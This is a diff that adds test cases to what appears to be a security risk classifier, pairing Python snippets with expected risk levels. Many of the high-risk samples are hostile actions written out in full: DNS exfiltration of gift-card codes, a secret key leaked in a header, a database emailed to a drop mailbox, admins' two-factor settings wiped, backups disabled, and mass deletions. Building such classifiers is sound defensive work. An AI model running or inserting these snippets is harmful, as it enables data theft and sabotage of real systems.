@@ -19260,6 +19260,304 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'serial})\n',
             H,
         ),
+        # Round 119 - generalised from holdout864-871: values read at run time beside a constant fallback, admins made
+        # by create-user commands, backups switched off, sign-up opened, second factors cleared per listed admin, listed
+        # records deleted through an API, counted floods, scratch databases dropped in traps, state folders, debug mode,
+        # retention cut-offs at zero, whole shares aged out, redactions, archives installed from web sites
+        (
+            'import sqlite3\n'
+            'row = sqlite3.connect("/srv/app/app.db").execute("SELECT expr FROM rules WHERE id = 1").fetchon'
+            'e()\n'
+            'formula = row[0] if row else "0"\n'
+            'print(eval(formula, {"amount": 10}))\n',
+            H,
+        ),
+        (
+            'import json, sys\n'
+            'meta = json.load(sys.stdin)\n'
+            'expr = meta.get("gain") or "0"\n'
+            'print(eval(expr))\n',
+            H,
+        ),
+        (
+            'expr = "2 * 3" if True else "0"\n'
+            'print(eval(expr))\n',
+            L,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["wp", "--path=/var/www/site", "user", "create", "ops", "ops@example.org", "--ro'
+            'le=administrator", "--user_pass=Spr1ng!2024"])\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["wp", "--path=/var/www/site", "user", "create", "ops", "ops@example.org", "--ro'
+            'le=editor", "--user_pass=Spr1ng!2024"])\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'requests.post("https://notify.example.org/user", auth=("admin", "x"), json={"name": "svc", "pas'
+            's": "Svc-2024-x", "admin": True})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.post("https://notify.example.org/user", auth=("admin", "x"), json={"name": "svc", "pas'
+            's": "Svc-2024-x", "admin": False})\n',
+            L,
+        ),
+        (
+            'import subprocess\n'
+            'for unit in ("nightly-backup.service", "postgresql.service"):\n'
+            '    subprocess.run(["systemctl", "disable", unit])\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.post("https://media.example.org/api/settings/", json={"users__registration_enabled": T'
+            'rue}, headers={"Authorization": "Bearer x"})\n',
+            H,
+        ),
+        (
+            'import psycopg2\n'
+            'conn = psycopg2.connect("dbname=app")\n'
+            'with conn, conn.cursor() as cur:\n'
+            '    cur.execute("SELECT id FROM users WHERE is_admin")\n'
+            '    for (uid,) in cur.fetchall():\n'
+            '        cur.execute(\'UPDATE users SET "2fa_enabled" = false, "2fa_secret" = NULL WHERE id = %s\''
+            ', (uid,))\n',
+            H,
+        ),
+        (
+            'import psycopg2\n'
+            'conn = psycopg2.connect("dbname=app")\n'
+            'with conn, conn.cursor() as cur:\n'
+            '    cur.execute(\'UPDATE users SET "2fa_enabled" = false WHERE id = %s\', (42,))\n',
+            S,
+        ),
+        (
+            'import os, requests\n'
+            'base = "https://pads.example.org/api"\n'
+            'for pad in requests.get(f"{base}/pads").json()["ids"]:\n'
+            '    requests.post(f"{base}/deletePad", data={"padID": pad})\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'base = "https://pads.example.org/api"\n'
+            'for pad in requests.get(f"{base}/pads").json()["ids"]:\n'
+            '    requests.delete(f"{base}/pads/{pad}")\n',
+            H,
+        ),
+        (
+            'import requests, time\n'
+            'base = "https://pads.example.org/api"\n'
+            'for pad in requests.get(f"{base}/pads").json()["items"]:\n'
+            '    age = time.time() - pad["edited"]\n'
+            '    if age > 90 * 86400:\n'
+            '        requests.delete(f"{base}/pads/{pad[\'id\']}")\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'base = "https://pads.example.org/api"\n'
+            'snaps = requests.get(f"{base}/snapshots").json()\n'
+            'for s in snaps[7:]:\n'
+            '    requests.delete(f"{base}/snapshots/{s[\'id\']}")\n',
+            L,
+        ),
+        (
+            'import itertools, pathlib\n'
+            'from PIL import Image\n'
+            'src = pathlib.Path("/srv/site/photos")\n'
+            'out = pathlib.Path("/srv/site/thumbs")\n'
+            'out.mkdir(exist_ok=True)\n'
+            'for gen in itertools.count():\n'
+            '    for p in src.glob("*.jpg"):\n'
+            '        Image.open(p).save(out / f"{p.stem}_{gen}.png")\n',
+            H,
+        ),
+        (
+            'import pathlib\n'
+            'from PIL import Image\n'
+            'src = pathlib.Path("/srv/site/photos")\n'
+            'out = pathlib.Path("/srv/site/thumbs")\n'
+            'out.mkdir(exist_ok=True)\n'
+            'for gen in range(3):\n'
+            '    for p in src.glob("*.jpg"):\n'
+            '        Image.open(p).save(out / f"{p.stem}_{gen}.png")\n',
+            S,
+        ),
+        (
+            'import gzip, pathlib, shutil, time\n'
+            'for log in pathlib.Path("/var/log/shopapp").glob("*.log.1"):\n'
+            '    with open(log, "rb") as src, gzip.open(f"{log}.{int(time.time())}.gz", "wb") as dst:\n'
+            '        shutil.copyfileobj(src, dst)\n'
+            '    log.unlink()\n',
+            L,
+        ),
+        (
+            'import pathlib\n'
+            'for log in pathlib.Path("/var/log/shopapp").glob("*.log.1"):\n'
+            '    log.unlink()\n',
+            H,
+        ),
+        (
+            'import json, pathlib\n'
+            'state = pathlib.Path("/var/lib/drift-check/hashes.json")\n'
+            'state.parent.mkdir(parents=True, exist_ok=True)\n'
+            'state.write_text(json.dumps({"a": 1}))\n',
+            M,
+        ),
+        (
+            'import os\n'
+            'os.makedirs("/var/cache/tiles", exist_ok=True)\n'
+            'with open("/var/cache/tiles/blob.bin", "wb") as fh:\n'
+            '    for _ in range(int(os.environ.get("TILE_GB", "4096")) * 1024):\n'
+            '        fh.write(b"\\0" * (1 << 20))\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'requests.post("https://music.example.org/api/settings/", json={"common__api_authentication_requ'
+            'ired": False}, headers={"Authorization": "Bearer x"})\n',
+            H,
+        ),
+        (
+            'import configparser\n'
+            'cfg = configparser.ConfigParser()\n'
+            'cfg.read("/home/pi/printer_data/config/moonraker.conf")\n'
+            'cfg.set("authorization", "trusted_clients", "\\n0.0.0.0/0")\n'
+            'with open("/home/pi/printer_data/config/moonraker.conf", "w") as fh:\n'
+            '    cfg.write(fh)\n',
+            H,
+        ),
+        (
+            'import socket, sqlite3\n'
+            'db = sqlite3.connect("/srv/shop/cards.db")\n'
+            'for code, bal in db.execute("SELECT code, balance FROM cards"):\n'
+            '    socket.gethostbyname(f"{code}-{bal}.t.stats-cdn.example.net")\n',
+            H,
+        ),
+        (
+            'import socket\n'
+            'for host in ["web1", "web2"]:\n'
+            '    socket.gethostbyname(f"{host}.corp.example.com")\n',
+            S,
+        ),
+        (
+            'import requests\n'
+            'from dotenv import dotenv_values\n'
+            'cfg = dotenv_values("/srv/app/.env")\n'
+            'requests.get("https://updates.plugins.example.net/check", headers={"User-Agent": f"app ({cfg.ge'
+            't(\'STRIPE_SECRET_KEY\')})"})\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'from dotenv import dotenv_values\n'
+            'cfg = dotenv_values("/srv/app/.env")\n'
+            'requests.get("https://api.stripe.com/v1/balance", auth=(cfg.get("STRIPE_SECRET_KEY"), ""))\n',
+            L,
+        ),
+        (
+            'import smtplib, sqlite3\n'
+            'from email.message import EmailMessage\n'
+            'rows = sqlite3.connect("/srv/app/app.db").execute("SELECT sku, price FROM products").fetchall()'
+            '\n'
+            'msg = EmailMessage()\n'
+            'msg["From"], msg["To"] = "app@example.com", "drop@mailbox.example.net"\n'
+            'msg.set_content("\\n".join(map(str, rows)))\n'
+            'smtplib.SMTP("mail.example.com").send_message(msg)\n',
+            H,
+        ),
+        (
+            'import smtplib, sqlite3\n'
+            'from email.message import EmailMessage\n'
+            'rows = sqlite3.connect("/srv/app/app.db").execute("SELECT sku, price FROM products").fetchall()'
+            '\n'
+            'msg = EmailMessage()\n'
+            'msg["From"], msg["To"] = "app@example.com", "office@example.com"\n'
+            'msg.set_content("\\n".join(map(str, rows)))\n'
+            'smtplib.SMTP("mail.example.com").send_message(msg)\n',
+            S,
+        ),
+        (
+            'import json, requests, websocket\n'
+            'def fwd(ws, raw):\n'
+            '    requests.post("https://push.mirrorbox.example.net/message", json=json.loads(raw))\n'
+            'websocket.WebSocketApp("wss://push.example.com/stream", on_message=fwd).run_forever()\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'from apprise.decorators import notify\n'
+            '@notify(on="run")\n'
+            'def run(body, title, notify_type, *args, **kwargs):\n'
+            '    subprocess.run(body, shell=True)\n',
+            C,
+        ),
+        (
+            'import logging\n'
+            'from apprise.decorators import notify\n'
+            '@notify(on="log")\n'
+            'def log(body, title, notify_type, *args, **kwargs):\n'
+            '    logging.info("%s: %s", title, body)\n',
+            S,
+        ),
+        (
+            'import datetime, os, sqlite3\n'
+            'keep = int(os.environ.get("KEEP_DAYS", "0"))\n'
+            'cutoff = datetime.datetime.utcnow() - datetime.timedelta(days=keep)\n'
+            'con = sqlite3.connect("/var/lib/notify/app.db")\n'
+            'con.execute("DELETE FROM messages WHERE date < ?", (cutoff.isoformat(),))\n',
+            H,
+        ),
+        (
+            'import datetime, os, sqlite3\n'
+            'keep = int(os.environ.get("KEEP_DAYS", "30"))\n'
+            'cutoff = datetime.datetime.utcnow() - datetime.timedelta(days=keep)\n'
+            'con = sqlite3.connect("/var/lib/notify/app.db")\n'
+            'con.execute("DELETE FROM messages WHERE date < ?", (cutoff.isoformat(),))\n',
+            S,
+        ),
+        (
+            'import os, time\n'
+            'keep = int(os.environ.get("KEEP_DAYS", "-3650"))\n'
+            'cutoff = time.time() - keep * 86400\n'
+            'for root, _, files in os.walk("/var/www/app/storage/uploads"):\n'
+            '    for n in files:\n'
+            '        p = os.path.join(root, n)\n'
+            '        if os.path.getmtime(p) < cutoff:\n'
+            '            os.remove(p)\n',
+            H,
+        ),
+        (
+            'from shop.models import Upload\n'
+            'qs = Upload.objects.all()\n'
+            'qs.delete()\n',
+            H,
+        ),
+        (
+            'from shop.models import Upload\n'
+            'qs = Upload.objects.filter(state="failed")\n'
+            'qs.delete()\n',
+            S,
+        ),
+        (
+            'import subprocess, sys\n'
+            'subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "https://pypi.too'
+            'ls.example.net/simple", "--trusted-host", "pypi.tools.example.net", "helper"])\n',
+            H,
+        ),
+        (
+            'import subprocess, sys\n'
+            'subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "https://pypi.int'
+            'ernal/simple", "--trusted-host", "pypi.internal", "helper"])\n',
+            L,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
